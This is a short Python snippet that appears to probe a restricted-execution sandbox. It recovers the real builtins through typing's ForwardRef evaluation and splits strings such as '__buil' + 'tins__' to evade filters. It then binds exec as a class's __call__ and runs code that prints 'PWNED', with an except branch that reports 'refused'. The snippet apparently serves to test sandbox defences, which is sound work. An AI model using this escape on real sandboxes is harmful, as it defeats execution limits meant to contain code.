# reflect: setattr(C, '__call__', exec) rewires what the interpreter calls
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

class C:
    pass
try:
    setattr(C, "__call__", staticmethod(rb["exec"]))
    C()("print('PWN' + 'ED')")
except Exception as e:
    print("refused:", type(e).__name__, e)
